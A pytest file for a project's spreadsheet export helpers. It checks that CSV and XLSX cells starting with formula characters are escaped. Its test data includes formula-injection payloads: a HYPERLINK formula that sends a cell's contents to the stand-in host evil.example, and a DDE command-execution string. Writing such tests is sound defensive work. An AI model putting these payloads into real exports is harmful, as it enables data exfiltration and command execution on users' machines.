"""No cell of a CSV or XLSX export ever becomes a formula."""

from __future__ import annotations

import ast
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from casebook.lib.spreadsheet import SafeCsvWriter, csv_cell, neutralise_formulas

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_escapes_formula_starts(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain text", "a=b", "", "email@example.invalid", 5, -3, 1.5])
def test_csv_cell_leaves_the_rest(value):
    assert csv_cell(value) == value


def test_safe_csv_writer():
    out = io.StringIO()
    SafeCsvWriter(out).writerows([["ref", "text"], ["CB-1", "=1+1"], ["CB-2", -4]])
    assert out.getvalue().splitlines() == ["ref,text", "CB-1,'=1+1", "CB-2,-4"]


def test_neutralise_formulas():
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["=1+1", "text", 3])
    assert ws["A1"].data_type == "f"  # what openpyxl does with such text
    assert neutralise_formulas(wb) == 1
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue()))
    assert back.active is not None and back.active["A1"].value == "=1+1"
    assert back.active["A1"].data_type == "s"


def test_every_csv_export_uses_the_safe_writer():
    """csv.writer / DictWriter appear only in the safe writer itself."""
    root = Path(__file__).resolve().parents[2] / "casebook"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheet.py" and path.parent.name == "lib":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path}:{node.lineno}")
    assert not offenders, f"write CSV through casebook.lib.spreadsheet.SafeCsvWriter: {offenders}"


def xlsx_has_formulas(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return any(
            b"<f>" in z.read(name) or b"<f " in z.read(name)
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
        )
